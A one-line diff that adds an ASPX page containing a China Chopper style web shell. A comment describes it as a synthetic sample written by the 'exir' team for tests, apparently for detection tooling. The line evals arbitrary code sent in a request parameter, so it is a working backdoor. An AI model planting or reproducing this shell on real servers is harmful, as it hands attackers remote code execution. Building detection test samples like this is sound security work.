@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" %><%-- exir synthetic sample: China Chopper style one-liner written by the exir team for tests --%><%eval(Request.Item["exir_sample_k"],"unsafe");%>
